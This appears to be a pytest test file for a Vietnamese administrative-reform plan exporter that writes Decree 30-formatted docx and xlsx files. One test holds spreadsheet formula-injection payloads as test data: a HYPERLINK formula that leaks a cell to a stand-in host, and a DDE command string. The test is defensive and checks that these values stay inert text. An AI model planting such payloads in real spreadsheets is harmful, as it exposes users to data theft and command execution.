"""The plan writers: the docx follows Decree 30's layout, the xlsx carries the same appendix rows."""
from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from datetime import date, datetime

import docx
import openpyxl
import pytest
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn

from tracker.domain.documents import Parties, Signer
from tracker.exporters.plan_document import (FieldGroup, PlanDocument, PlanRow, roman,
                                             vn_number)
from tracker.exporters.plan_docx import plan_docx
from tracker.exporters.plan_xlsx import HEADER_ROW, plan_xlsx

COLUMNS = ["STT", "Tiêu chí bị mất điểm", "Nhiệm vụ, giải pháp", "Sản phẩm",
           "Cơ quan chủ trì", "Cơ quan phối hợp", "Thời gian hoàn thành"]


def make_plan(**changes) -> PlanDocument:
    field1 = FieldGroup("1", "Công tác chỉ đạo, điều hành CCHC", [
        PlanRow("1.1.2 Mức độ hoàn thành kế hoạch CCHC năm (mất 1 điểm)",
                "Theo dõi, đôn đốc hoàn thành 100% nhiệm vụ của kế hoạch CCHC",
                "Báo cáo kết quả thực hiện kế hoạch CCHC", "Phòng Nội vụ",
                "Các phòng, ban, ngành", date(2026, 12, 15), "Đang thực hiện"),
        PlanRow("1.3.1 Tuyên truyền CCHC (mất 0,5 điểm)", "Đăng tin, bài tuyên truyền CCHC",
                "Ít nhất 12 tin, bài", "Phòng Văn hóa và Thông tin", "", date(2026, 6, 30)),
    ])
    field3 = FieldGroup("3", "Cải cách thủ tục hành chính", [
        PlanRow("3.2.1 Tỷ lệ hồ sơ trực tuyến toàn trình (mất 1,5 điểm)",
                "Hướng dẫn người dân nộp hồ sơ trực tuyến", "Tỷ lệ hồ sơ trực tuyến toàn trình ≥ 50%",
                "Văn phòng HĐND và UBND", "Phòng Tư pháp, Phòng Nội vụ", date(2026, 9, 30), "Quá hạn"),
    ])
    district = Parties(issuing_body="UBND HUYỆN TÁNH LINH", place="Tánh Linh",
                       recipients=("UBND tỉnh (b/c)", "Sở Nội vụ (b/c)", "Các phòng, ban, ngành thuộc UBND"),
                       archive="Lưu: VT, NV", signer=Signer("TM.", "CHỦ TỊCH"))
    plan = PlanDocument(
        parties=district, coordinator="Phòng Nội vụ", number="45/KH-UBND", issued_on=date(2026, 1, 20), unit_name="UBND huyện Tánh Linh", assessed_year=2025,
        total=71.11, max_score=97, classification="Khá", rank=5, rank_of=10,
        target_classification="Tốt", target_rank=3,
        result_decision="Quyết định số 123/QĐ-UBND ngày 10/01/2026 của UBND tỉnh",
        groups=[field1, field3])
    return replace(plan, **changes)


def open_docx(plan: PlanDocument):
    return docx.Document(io.BytesIO(plan_docx(plan)))


def open_sheet(plan: PlanDocument):
    return openpyxl.load_workbook(io.BytesIO(plan_xlsx(plan)))["Kế hoạch"]


def texts(document) -> list[str]:
    return [p.text for p in document.paragraphs]


def appendix(document):
    return document.tables[-1]


def row_texts(row) -> list[str]:
    return [cell.text for cell in row.cells]


@pytest.mark.parametrize("value, text", [(71.11, "71,11"), (83.0, "83"), (80.5, "80,5"),
                                         (97, "97"), (2.256, "2,26"), (0, "0")])
def test_vn_number_uses_a_decimal_comma_and_drops_trailing_zeros(value, text):
    assert vn_number(value) == text


def test_field_codes_become_roman_numerals():
    assert [roman(c) for c in ("1", "3", "4", "8", "9", "12")] == ["I", "III", "IV", "VIII", "IX", "XII"]


def test_task_count_counts_rows_across_fields():
    assert make_plan().task_count == 3
    assert make_plan(groups=[]).task_count == 0


def test_docx_first_section_is_a4_portrait_with_decree_30_margins():
    section = open_docx(make_plan()).sections[0]
    expected = {"page_width": 210, "page_height": 297, "top_margin": 20, "bottom_margin": 20,
                "left_margin": 30, "right_margin": 15}
    for name, mm in expected.items():
        assert getattr(section, name).mm == pytest.approx(mm, abs=0.5), name
    assert section.orientation == WD_ORIENT.PORTRAIT


def test_docx_body_is_times_new_roman_for_every_script():
    document = open_docx(make_plan())
    normal = document.styles["Normal"]
    assert normal.font.name == "Times New Roman"
    assert 13 <= normal.font.size.pt <= 14
    fonts = normal.element.rPr.rFonts
    assert fonts.get(qn("w:eastAsia")) == "Times New Roman"


def test_docx_header_block_has_issuing_body_number_national_title_and_date():
    """The issuing body is written out over two lines, as Decree 30 prints an Ủy ban nhân dân
    (it was one line, "UBND HUYỆN TÁNH LINH", before the two-line header)."""
    header = open_docx(make_plan()).tables[0]
    left = "\n".join(row.cells[0].text for row in header.rows)
    right = "\n".join(row.cells[1].text for row in header.rows)
    assert left.startswith("ỦY BAN NHÂN DÂN\nHUYỆN TÁNH LINH\n")
    assert "Số: 45/KH-UBND" in left
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in right
    assert "Độc lập - Tự do - Hạnh phúc" in right
    assert "Tánh Linh, ngày 20 tháng 01 năm 2026" in right
    bold = {run.text for row in header.rows for cell in row.cells
            for p in cell.paragraphs for run in p.runs if run.bold}
    assert {"ỦY BAN NHÂN DÂN", "HUYỆN TÁNH LINH", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
            "Độc lập - Tự do - Hạnh phúc"} <= bold


def test_docx_date_line_pads_day_and_month():
    header = open_docx(make_plan(issued_on=date(2024, 1, 5))).tables[0]
    assert "Tánh Linh, ngày 05 tháng 01 năm 2024" in header.rows[-1].cells[1].text


def test_docx_title_is_bold_and_names_the_plan_year():
    paragraphs = open_docx(make_plan()).paragraphs
    index = [p.text for p in paragraphs].index("KẾ HOẠCH")
    title, subtitle = paragraphs[index], paragraphs[index + 1]
    assert all(run.bold for run in title.runs + subtitle.runs)
    assert subtitle.text == ("Khắc phục những tồn tại, hạn chế và nâng cao Chỉ số cải cách hành chính "
                        "năm 2026")


def test_docx_body_states_the_result_sections_and_task_count():
    body = "\n".join(texts(open_docx(make_plan())))
    assert "Quyết định số 123/QĐ-UBND" in body
    assert "UBND huyện Tánh Linh đạt 71,11/97 điểm, xếp loại Khá, xếp hạng thứ 5/10" in body
    assert "xếp loại Tốt, xếp hạng 3/10" in body
    for heading in ("I. MỤC ĐÍCH, YÊU CẦU", "II. NHIỆM VỤ, GIẢI PHÁP", "III. KINH PHÍ THỰC HIỆN",
                    "IV. TỔ CHỨC THỰC HIỆN", "1. Nhiệm vụ, giải pháp chung:"):
        assert heading in body
    assert "(3 nhiệm vụ)" in body


def test_docx_result_leaves_out_rank_when_unknown():
    body = "\n".join(texts(open_docx(make_plan(rank=None, rank_of=None, result_decision=None))))
    assert "UBND huyện Tánh Linh đạt 71,11/97 điểm, xếp loại Khá." in body
    assert "Quyết định" not in body


def test_docx_ends_with_recipients_and_signature():
    closing = open_docx(make_plan()).tables[1].rows[0].cells
    lines = [p.text for p in closing[0].paragraphs]
    assert lines[0] == "Nơi nhận:"
    assert lines[1:] == ["- UBND tỉnh (b/c);", "- Sở Nội vụ (b/c);",
                         "- Các phòng, ban, ngành thuộc UBND;", "- Lưu: VT, NV."]
    assert [p.text for p in closing[1].paragraphs][:2] == ["TM. ỦY BAN NHÂN DÂN", "CHỦ TỊCH"]


def test_docx_appendix_is_in_a_landscape_a4_section():
    document = open_docx(make_plan())
    assert len(document.sections) == 2
    last = document.sections[-1]
    assert last.orientation == WD_ORIENT.LANDSCAPE
    assert (last.page_width.mm, last.page_height.mm) == (pytest.approx(297, abs=0.5),
                                                        pytest.approx(210, abs=0.5))
    body = texts(document)
    assert "PHỤ LỤC" in body
    assert "DANH MỤC NHIỆM VỤ KHẮC PHỤC, NÂNG CAO CHỈ SỐ CCHC NĂM 2026" in body
    assert "(Kèm theo Kế hoạch số 45/KH-UBND ngày 20/01/2026 của UBND huyện Tánh Linh)" in body


def test_docx_appendix_header_is_bold_grid_and_repeats_on_each_page():
    table = appendix(open_docx(make_plan()))
    header = table.rows[0]
    assert row_texts(header) == COLUMNS
    assert all(run.bold for cell in header.cells for p in cell.paragraphs for run in p.runs)
    assert header._tr.trPr.find(qn("w:tblHeader")) is not None
    assert table.style.name == "Table Grid"


def test_docx_appendix_groups_tasks_under_roman_field_rows_numbered_continuously():
    rows = appendix(open_docx(make_plan())).rows[1:]
    assert len(rows) == 5
    assert set(row_texts(rows[0])) == {"I. Công tác chỉ đạo, điều hành CCHC"}
    assert set(row_texts(rows[3])) == {"III. Cải cách thủ tục hành chính"}
    tasks = [row_texts(rows[i]) for i in (1, 2, 4)]
    assert [t[0] for t in tasks] == ["1", "2", "3"]
    assert tasks[0] == ["1", "1.1.2 Mức độ hoàn thành kế hoạch CCHC năm (mất 1 điểm)",
                        "Theo dõi, đôn đốc hoàn thành 100% nhiệm vụ của kế hoạch CCHC",
                        "Báo cáo kết quả thực hiện kế hoạch CCHC", "Phòng Nội vụ",
                        "Các phòng, ban, ngành", "15/12/2026"]
    assert tasks[1][5:] == ["", "30/06/2026"]
    assert tasks[2][4:] == ["Văn phòng HĐND và UBND", "Phòng Tư pháp, Phòng Nội vụ", "30/09/2026"]


def test_docx_status_is_not_shown():
    document = open_docx(make_plan())
    cells = {cell.text for row in appendix(document).rows for cell in row.cells}
    assert "Đang thực hiện" not in cells and "Trạng thái" not in cells


def test_empty_docx_has_only_the_appendix_header_and_says_there_is_no_task():
    document = open_docx(make_plan(groups=[]))
    table = appendix(document)
    assert len(table.rows) == 1
    assert row_texts(table.rows[0]) == COLUMNS
    assert "Không có nhiệm vụ khắc phục." in texts(document)
    assert document.sections[-1].orientation == WD_ORIENT.LANDSCAPE


def test_xlsx_has_titles_then_the_header_at_header_row():
    sheet = open_sheet(make_plan())
    assert sheet["A1"].value == "DANH MỤC NHIỆM VỤ KHẮC PHỤC, NÂNG CAO CHỈ SỐ CCHC NĂM 2026"
    assert sheet["A1"].font.bold
    assert sheet["A2"].value == "(Kèm theo Kế hoạch số 45/KH-UBND ngày 20/01/2026 của UBND huyện Tánh Linh)"
    header = [c.value for c in sheet[HEADER_ROW]]
    assert header == COLUMNS + ["Trạng thái"]
    assert all(c.font.bold for c in sheet[HEADER_ROW])
    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
    assert sheet.auto_filter.ref == f"A{HEADER_ROW}:H{HEADER_ROW + 5}"


def test_xlsx_field_rows_are_merged_bold_and_tasks_carry_real_dates():
    sheet = open_sheet(make_plan())
    first, second = HEADER_ROW + 1, HEADER_ROW + 4
    for row, text in ((first, "I. Công tác chỉ đạo, điều hành CCHC"),
                      (second, "III. Cải cách thủ tục hành chính")):
        assert sheet.cell(row, 1).value == text and sheet.cell(row, 1).font.bold
        assert f"A{row}:H{row}" in {str(r) for r in sheet.merged_cells.ranges}
    tasks = [[c.value for c in sheet[r]] for r in (HEADER_ROW + 2, HEADER_ROW + 3, HEADER_ROW + 5)]
    assert [t[0] for t in tasks] == [1, 2, 3]
    assert tasks[0][1:6] == ["1.1.2 Mức độ hoàn thành kế hoạch CCHC năm (mất 1 điểm)",
                             "Theo dõi, đôn đốc hoàn thành 100% nhiệm vụ của kế hoạch CCHC",
                             "Báo cáo kết quả thực hiện kế hoạch CCHC", "Phòng Nội vụ",
                             "Các phòng, ban, ngành"]
    assert [t[6] for t in tasks] == [datetime(2026, 12, 15), datetime(2026, 6, 30), datetime(2026, 9, 30)]
    assert tasks[1][5] is None  # no supporting body: an empty cell, not an empty string
    assert [t[7] for t in tasks] == ["Đang thực hiện", None, "Quá hạn"]
    for r in (HEADER_ROW + 2, HEADER_ROW + 3, HEADER_ROW + 5):
        assert "DD/MM/YYYY" in sheet.cell(r, 7).number_format.upper()
        assert sheet.cell(r, 3).alignment.wrap_text
    assert sheet.max_row == HEADER_ROW + 5


def test_empty_xlsx_has_only_the_header():
    sheet = open_sheet(make_plan(groups=[]))
    assert [c.value for c in sheet[HEADER_ROW]] == COLUMNS + ["Trạng thái"]
    assert sheet.max_row == HEADER_ROW


def test_xlsx_keeps_formula_text_as_text_not_a_live_formula():
    """A task titled =HYPERLINK(…) must be shown as typed, never evaluated (formula injection)."""
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
    plan = make_plan()
    row = replace(plan.groups[0].rows[0], task=evil, product="+cmd|' /C calc'!A0", lead="@SUM(1+1)")
    plan = replace(plan, groups=[replace(plan.groups[0], rows=[row])])
    path = io.BytesIO(plan_xlsx(plan))
    for sheet in (openpyxl.load_workbook(path)["Kế hoạch"], ):
        cells = {c.value: c for r in sheet.iter_rows() for c in r if c.value}
        for text in (evil, "+cmd|' /C calc'!A0", "@SUM(1+1)"):
            assert cells[text].data_type == "s", text
    with zipfile.ZipFile(path) as archive:  # no <f> element: Excel would compute one
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_import_templates_write_text_cells():
    from tracker.exporters.import_templates import ranking_template, results_template
    for data in (results_template(), ranking_template()):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            assert all(b"<f>" not in archive.read(name) for name in archive.namelist() if name.endswith(".xml"))


def test_docx_header_breaks_a_name_too_long_for_its_column_where_it_reads_best():
    """Broken at the middle space, not wherever the column ends (VĂN PHÒNG HĐND VÀ / UBND);
    a name that fits stays on its line."""
    def body(parties):
        cell = open_docx(make_plan(parties=parties)).tables[0].cell(0, 0)
        return [p.text for p in cell.paragraphs if p.text]
    office = Parties(issuing_body="VĂN PHÒNG HĐND VÀ UBND", parent_body="UBND PHƯỜNG MŨI NÉ", place="Mũi Né")
    assert body(office) == ["UBND PHƯỜNG MŨI NÉ", "VĂN PHÒNG", "HĐND VÀ UBND"]
    city = Parties(issuing_body="UBND THÀNH PHỐ HỒ CHÍ MINH", place="Thành phố Hồ Chí Minh")
    assert body(city) == ["ỦY BAN NHÂN DÂN", "THÀNH PHỐ HỒ CHÍ MINH"]
